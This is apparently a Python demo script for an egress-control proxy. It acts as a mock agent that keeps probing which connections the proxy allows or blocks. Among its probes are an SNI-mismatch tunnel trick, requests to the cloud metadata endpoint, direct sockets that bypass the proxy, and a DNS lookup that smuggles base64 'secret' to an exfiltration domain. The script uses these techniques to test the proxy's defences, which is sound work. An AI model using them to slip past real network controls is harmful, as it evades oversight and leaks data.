"""The demo's stand-in for an agent: tries over and over what it may and may not do, and prints what came of it.

It has only Python's own library, and knows nothing of exeat but the address of the proxy.
"""

import http.client
import json
import os
import socket
import ssl
import threading
import time
import urllib.parse

PROXY = urllib.parse.urlsplit(os.environ["HTTPS_PROXY"])
REASON = "x-exeat-deny-reason"
LISTED, UNLISTED = "api.example.test", "blocked.example.test"
PATIENCE, PAUSE = 10.0, 0.3
TLS = ssl.create_default_context(cafile="/demo/ca.pem")
TLS_OF_ANYONE = ssl.create_default_context(cafile="/demo/ca.pem")
TLS_OF_ANYONE.check_hostname = False


def verdict(status, reason):
    """How an answer is shown."""
    if status == 403:
        return f"blocked  403 {reason}"
    return f"allowed  {status}" if status < 400 else f"failed   {status}"


def tunnel(host, port=443):
    """A CONNECT: the socket, or what is shown in its place."""
    sock = socket.create_connection((PROXY.hostname, PROXY.port), PATIENCE)
    sock.sendall(f"CONNECT {host}:{port} HTTP/1.1\r\nHost: {host}:{port}\r\n\r\n".encode())
    answer = http.client.HTTPResponse(sock, method="CONNECT")
    answer.begin()
    if answer.status != 200:
        sock.close()
        return None, verdict(answer.status, answer.headers.get(REASON))
    return sock, None


def ask(secured, host):
    """One request inside a tunnel: its status."""
    secured.sendall(f"GET / HTTP/1.1\r\nHost: {host}\r\n\r\n".encode())
    answer = http.client.HTTPResponse(secured)
    answer.begin()
    answer.read()
    return answer.status


def tls(host):
    sock, refused = tunnel(host)
    if refused:
        return refused
    with TLS.wrap_socket(sock, server_hostname=host) as secured:
        return verdict(ask(secured, host), None)


def sni_trick():
    """A tunnel for the listed host, and TLS for another one inside."""
    sock, refused = tunnel(LISTED)
    if refused:
        return refused
    try:
        with TLS_OF_ANYONE.wrap_socket(sock, server_hostname=UNLISTED) as secured:
            return f"ANSWERED {ask(secured, UNLISTED)}"
    except (OSError, http.client.HTTPException):
        return "closed   by the proxy"


def plain(url, body=None):
    """A request that the proxy reads: the connection's answer, its text, and what is shown."""
    connection = http.client.HTTPConnection(PROXY.hostname, PROXY.port, timeout=PATIENCE)
    headers = {"Content-Type": "application/json", "Accept": "application/json, text/event-stream"} if body else {}
    try:
        connection.request("POST" if body else "GET", url, body, headers)
        answer = connection.getresponse()
        return answer.read().decode(), verdict(answer.status, answer.headers.get(REASON))
    finally:
        connection.close()


def mcp():
    """A tool of the MCP server."""
    params = {"name": "add", "arguments": {"a": 19, "b": 23}}
    call = {"jsonrpc": "2.0", "id": 1, "method": "tools/call", "params": params}
    text, shown = plain("http://mcp.example.test:8080/mcp", json.dumps(call))
    for line in text.splitlines():
        if line.startswith("data:"):
            return f"{shown}, the tool says {json.loads(line[5:])['result']['content'][0]['text']}"
    return shown


def direct(host, port):
    """A socket past the proxy."""
    try:
        socket.create_connection((host, port), 0.5).close()
    except OSError:
        return "no way   "
    return "REACHED"


def name():
    """A name that carries something out."""
    try:
        socket.getaddrinfo("c2VjcmV0.exfiltrated.example", 443)
    except OSError:
        return "no way   no answer"
    return "ANSWERED"


class Held:
    """A tunnel that is opened once, and used again and again."""

    def __init__(self):
        self.secured, self.shown = None, "opening"

    def use(self):
        try:
            if self.secured is None:
                sock, refused = tunnel(LISTED)
                if refused:
                    # What was cut stays so, for the reader.
                    return self.shown if self.shown.startswith("cut") else refused
                self.secured = TLS.wrap_socket(sock, server_hostname=LISTED)
            ask(self.secured, LISTED)
            self.shown = "open"
        except (OSError, http.client.HTTPException):
            if self.secured is not None:
                self.secured.close()
                self.secured, self.shown = None, "cut      by the proxy"
        return self.shown


HELD = Held()
ROWS = [
    (f"https://{LISTED}/", lambda: tls(LISTED)),
    ("http://docs.example.test/", lambda: plain("http://docs.example.test/")[1]),
    ("a tool of mcp.example.test", mcp),
    (f"https://{UNLISTED}/", lambda: tls(UNLISTED)),
    (f"SNI trick: {UNLISTED} in a tunnel to {LISTED}", sni_trick),
    ("cloud metadata, http://169.254.169.254/", lambda: plain("http://169.254.169.254/latest/meta-data/")[1]),
    ("cloud metadata, past the proxy", lambda: direct("169.254.169.254", 80)),
    ("a socket to 1.1.1.1:443, past the proxy", lambda: direct("1.1.1.1", 443)),
    ("the control plane", lambda: direct("control-plane", 18000)),
    ("a random name, asked of DNS", name),
    (f"a tunnel to {LISTED} that stays open", HELD.use),
]


def attempt(what):
    """What is shown of one row."""
    try:
        return what().strip()
    except (OSError, http.client.HTTPException, ValueError) as error:
        return f"failed   {type(error).__name__}"


def keep_trying(index, shown):
    """One row, for ever: a slow one holds up no other."""
    while True:
        shown[index] = attempt(ROWS[index][1])
        time.sleep(PAUSE)


def main():
    width = max(len(title) for title, _ in ROWS)
    shown, before = [None] * len(ROWS), [None] * len(ROWS)
    for index in range(len(ROWS)):
        threading.Thread(target=keep_trying, args=(index, shown), daemon=True).start()
    while True:
        now = list(shown)
        if None not in now and now != before:
            print(f"\n{time.strftime('%H:%M:%S')}  what the agent tries")
            for (title, _), new, old in zip(ROWS, now, before):
                mark = "  <- changed" if old not in (None, new) else ""
                print(f"  {title:<{width}}  {new}{mark}")
            before = now
        time.sleep(PAUSE)


if __name__ == "__main__":
    main()
